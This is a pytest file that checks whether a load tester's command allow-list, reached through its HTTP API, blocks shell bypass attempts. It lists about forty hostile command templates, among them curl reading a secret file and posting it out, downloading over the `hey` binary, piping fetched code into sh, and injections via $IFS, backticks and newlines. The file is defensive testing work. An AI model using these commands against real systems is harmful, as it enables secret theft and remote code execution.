"""Issue #11: the allow-list cannot be bypassed, proven on the file system, through the real HTTP API.

Every attack below worked against the shell-based check (it wrote or read a file, or ran a program off
the list). Each must be refused for both task types, with nothing started, no file written and no secret
leaked. The allowed commands of the walkthrough and Flagger's docs must keep working against a real
local HTTP server.
"""

from __future__ import annotations

import os
import stat
import uuid
from pathlib import Path

import pytest

from tests.loadtester.conftest import hook

pytestmark = pytest.mark.timeout(60)

# {x}: a file an attack tries to write; {secret}: a file it tries to read; {url}: the capture server;
# {bin}: a directory on the loadtester's PATH holding the `hey` it runs.
ATTACKS = [
    ("glued -o in a cluster", "curl -so{x} {url}"),
    ("$IFS word splitting", "curl -s${{IFS}}-o${{IFS}}{x} {url}"),
    ("bash brace expansion", "curl -s {{-o,{x}}} {url}"),
    ("abbreviated --trace-ascii", "curl --trace-a {x} {url}"),
    ("-d @file", "curl -d@{secret} {url}"),
    ("-F f=<file", "curl -F 'f=<{secret}' {url}"),
    ("-T in a cluster", "curl -sT{secret} {url}"),
    ("-w @file", "curl -w@{secret} {url}"),
    ("curl URL globbing to file:", "curl '[f-f]ile://{secret}'"),
    ("hey -D through $IFS", "hey -n 1 -c 1${{IFS}}-D${{IFS}}{secret} -m POST {url}"),
    ("overwrite hey", "curl -so{bin}/hey {url}payload"),
    ("$'...' quoting", "curl $'-o' {x} {url}"),
    ("double-quoted expansion", 'curl "$(cat {secret})" {url}'),
    ("-o as a separate word", "curl -s -o {x} {url}"),
    ("--output=", "curl --output={x} {url}"),
    ("-K config file", "curl -K{secret} {url}"),
    ("-b cookie file", "curl -b {secret} {url}"),
    ("-c cookie jar", "curl -c {x} {url}"),
    ("--data-urlencode name@file", "curl --data-urlencode 'a@{secret}' {url}"),
    ("-H @file", "curl -H @{secret} {url}"),
    ("-F with @ in a cluster", "curl -sF 'f=@{secret}' {url}"),
    ("--libcurl", "curl --libcurl {x} {url}"),
    ("--output-dir", "curl --output-dir {bin} -O {url}hey"),
    ("file: URL", "curl file://{secret}"),
    ("upper-case --Output", "curl --Output {x} {url}"),
    ("hey -D", "hey -n 1 -D {secret} {url}"),
    ("hey flags after the URL", "hey -n 1 {url} -D {secret}"),
    ("hey -o is not csv", "hey -o {x} {url}"),
    ("a path to another hey", "{bin}/../hey {url}"),
    ("a relative program path", "./hey {url}"),
    ("pipe into sh", "curl -s {url} | sh"),
    ("grep reading a file", "curl -s {url} | grep root {secret}"),
    ("grep -f file", "curl -s {url} | grep -f {secret}"),
    ("jq reading a file", "curl -s {url} | jq . {secret}"),
    ("jq $ENV", "curl -s {url} | jq '$ENV'"),
    ("redirection", "hey -n 1 {url} > {x}"),
    ("stderr redirection", "curl {url} 2>{x}"),
    ("command list", "hey -n 1 {url}; cp {secret} {x}"),
    ("and list", "curl {url} && cp {secret} {x}"),
    ("background job", "cp {secret} {x} & curl {url}"),
    ("backticks", "curl `cp {secret} {x}` {url}"),
    ("newline", "curl {url}\ncp {secret} {x}"),
]


@pytest.fixture
def arena(tmp_path: Path, hey_binary: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """A secret file, a path that must stay absent, and a bin directory with a `hey` wrapper first on PATH."""
    secret = tmp_path / "secret"
    secret.write_text(f"TOPSECRET-{uuid.uuid4()}\n")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    wrapper = bin_dir / "hey"
    wrapper.write_text(f'#!/bin/sh\nexec {hey_binary} "$@"\n')
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    return {"secret": secret, "x": tmp_path / "x", "bin": bin_dir, "hey": wrapper, "root": tmp_path}


def _snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize(("what", "template"), ATTACKS, ids=[a[0] for a in ATTACKS])
async def test_attack_is_refused_and_leaves_no_trace(loadtester, capture_server, arena, what, template):
    payload = "#!/bin/sh\necho pwned > {marker}\n".format(marker=arena["root"] / "pwned")
    srv = await capture_server(statuses=[200], bodies=[payload])
    client = await loadtester()
    assert client.tester.policy.paths["hey"] == str(arena["hey"])  # resolved once, from PATH at start
    before = _snapshot(arena["root"])
    command = template.format(x=arena["x"], secret=arena["secret"], url=srv.url, bin=arena["bin"])
    secret = arena["secret"].read_text().strip()
    for task_type in ("cmd", "bash"):
        status, text = await client.post("/", hook(type=task_type, cmd=command, returnCmdOutput="true"))
        assert status == 403, f"{what}: {text}"
        assert text.startswith("command rejected: "), text
        assert secret not in text
    await client.tester.wait_idle()
    # Nothing ran at all: no process was started, the server saw no request, no task completed.
    assert list(client.tester.started_pids) == []
    assert client.tester.completed == []
    assert srv.requests == []
    # The file system is exactly as before: nothing written, the secret not copied, `hey` intact.
    assert _snapshot(arena["root"]) == before
    assert not arena["x"].exists()
    assert not (arena["root"] / "pwned").exists()
    _, metrics = await client.get("/metrics")
    assert 'canarist_loadtester_tasks_total{result="rejected",type="bash"} 1.0' in metrics


async def test_hey_stays_the_resolved_binary_after_an_overwrite_attempt(loadtester, capture_server, arena):
    # The attack that worked: curl -so<dir>/hey, then the next allowed `hey` ran the payload.
    marker = arena["root"] / "pwned"
    srv = await capture_server(statuses=[200], bodies=[f"#!/bin/sh\necho pwned > {marker}\n"])
    client = await loadtester()
    wrapper_before = arena["hey"].read_bytes()
    status, _ = await client.post("/", hook(type="bash", cmd=f"curl -so{arena['bin']}/hey {srv.url}"))
    assert status == 403
    status, text = await client.post(
        "/", hook(type="bash", cmd=f"hey -n 2 -c 1 {srv.url}", returnCmdOutput="true")
    )
    assert status == 200, text
    assert "Status code distribution" in text
    assert len(srv.requests) == 2  # only hey's requests; curl never ran
    assert arena["hey"].read_bytes() == wrapper_before
    assert not marker.exists()


# -- allowed commands: they run, without a shell, and reach a real server ---------------------------


async def test_walkthrough_acceptance_test(loadtester, capture_server):
    srv = await capture_server(statuses=[200], bodies=['{"token":"abc"}'])
    client = await loadtester()
    cmd = f"curl -sd 'test' {srv.url}token | grep token"
    assert await client.post("/", hook(type="bash", cmd=cmd, returnCmdOutput="true")) == (
        200,
        '{"token":"abc"}\n',
    )
    assert [(r.method, r.path, r.text) for r in srv.requests] == [("POST", "/token", "test")]


async def test_walkthrough_load_test_runs_async(loadtester, capture_server, hey_binary):
    srv = await capture_server(statuses=[200])
    client = await loadtester()
    cmd = f"hey -z 300ms -q 10 -c 2 {srv.url}"  # the walkthrough's -z 1m -q 10 -c 2, shortened
    assert await client.post("/", hook(cmd=cmd)) == (202, "task accepted")
    await client.tester.wait_idle(timeout_s=30)
    [outcome] = client.tester.completed
    assert outcome.ok, outcome.describe_failure()
    assert srv.requests
    assert {r.method for r in srv.requests} == {"GET"}


async def test_flagger_docs_hey_post_with_a_json_body(loadtester, capture_server, hey_binary):
    srv = await capture_server(statuses=[200])
    client = await loadtester()
    cmd = f"""hey -n 3 -c 1 -q 50 -m POST -T application/json -d '{{"a": "b c"}}' {srv.url}api/echo"""
    status, text = await client.post("/", hook(type="bash", cmd=cmd))
    assert status == 200, text
    assert [(r.method, r.path, r.json, r.headers["content-type"]) for r in srv.requests] == [
        ("POST", "/api/echo", {"a": "b c"}, "application/json")
    ] * 3


@pytest.mark.parametrize(
    ("template", "method", "path", "body", "output"),
    [
        (
            "curl -sS -X PUT -H 'X-Test: yes' --data-raw '@not-a-file' {url}put",
            "PUT",
            "/put",
            "@not-a-file",
            "ok",
        ),
        ("curl -sSfL --max-time 5 --retry 0 {url}get?a=1", "GET", "/get", "", "ok"),
        ("curl -s -o /dev/stdout {url}x", None, None, None, None),  # -o is refused even for /dev/stdout
        ("curl -s {url}json | jq -r .token", "GET", "/json", "", "abc\n"),
        ("curl -s {url}json | head -c 4", "GET", "/json", "", '{"to'),
        ("curl -s --json '{{\"k\":1}}' {url}j | grep -c token", "POST", "/j", '{"k":1}', "1\n"),
        ("/usr/bin/curl -s {url}abs", "GET", "/abs", "", "ok"),  # exactly the resolved path
    ],
)
async def test_curl_forms(loadtester, capture_server, template, method, path, body, output):
    srv = await capture_server(
        statuses=[200], bodies=['{"token":"abc"}' if "json" in template or "/j" in template else "ok"]
    )
    client = await loadtester()
    cmd = template.format(url=srv.url)
    status, text = await client.post("/", hook(type="bash", cmd=cmd, returnCmdOutput="true"))
    if method is None:
        assert status == 403
        assert "-o" in text
        assert srv.requests == []
        return
    assert status == 200, text
    assert [(r.method, r.path, r.text) for r in srv.requests] == [(method, path, body)]
    assert text == output
    if "X-Test" in template:
        assert srv.requests[0].headers["x-test"] == "yes"


async def test_programs_that_are_not_installed_are_refused_clearly(loadtester, monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", f"{tmp_path}{os.pathsep}/usr/bin:/bin")
    client = await loadtester()
    missing = [
        name for name in ("ghz", "wrk", "grpc_health_probe") if client.tester.policy.paths[name] is None
    ]
    commands = {
        "ghz": 'ghz --insecure --call helloworld.Greeter/SayHello -d \'{"name":"x"}\' -z 1s podinfo:9999',
        "wrk": "wrk -t2 -c10 -d30s http://podinfo-canary.test:9898/",
        "grpc_health_probe": "grpc_health_probe -connect-timeout=1s -addr=podinfo-canary:9999",
    }
    for name in missing:
        status, text = await client.post("/", hook(type="bash", cmd=commands[name]))
        assert (status, text) == (
            403,
            f"command rejected: program {name!r} is allowed but not installed (not found on PATH when the "
            "loadtester started)",
        )


async def test_an_argument_over_the_kernel_limit_is_a_clear_400(loadtester, capture_server):
    srv = await capture_server(statuses=[200])
    client = await loadtester()
    cmd = f"curl -s -d {'a' * 200_000} {srv.url}"
    for task_type in ("cmd", "bash"):
        status, text = await client.post("/", hook(type=task_type, cmd=cmd))
        assert status == 400
        assert text.startswith("command cannot be run: argument 3 is 200000 bytes")
        assert "E2BIG" in text
    assert srv.requests == []


async def test_an_unexecutable_program_is_a_500_not_a_traceback(loadtester, monkeypatch, tmp_path):
    # An allowed program that cannot be exec'ed (here: no exec permission after start-up).
    fake = tmp_path / "hey"
    fake.write_text("#!/bin/sh\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}{os.pathsep}{os.environ['PATH']}")
    client = await loadtester()
    fake.chmod(0o644)
    status, text = await client.post("/", hook(type="bash", cmd="hey http://127.0.0.1:1/"))
    assert status == 500
    assert text == f"command hey http://127.0.0.1:1/ cannot be run: {fake}: Permission denied"
    assert (await client.post("/", hook(cmd="hey http://127.0.0.1:1/")))[0] == 202
    await client.tester.wait_idle()
    [outcome] = client.tester.completed
    assert outcome.error
    assert not outcome.ok
    _, metrics = await client.get("/metrics")
    assert 'canarist_loadtester_tasks_total{result="unrunnable",type="cmd"} 1.0' in metrics


async def test_allow_any_command_warns_loudly_and_uses_the_shell(loadtester, caplog, tmp_path):
    caplog.set_level("INFO", logger="canarist.loadtester")
    client = await loadtester(allow_any_command=True)
    assert any(r.levelname == "WARNING" and "--allow-any-command" in r.message for r in caplog.records)
    status, text = await client.post(
        "/", hook(type="bash", cmd="echo $((6*7)) | cat", returnCmdOutput="true")
    )
    assert (status, text) == (200, "42\n")
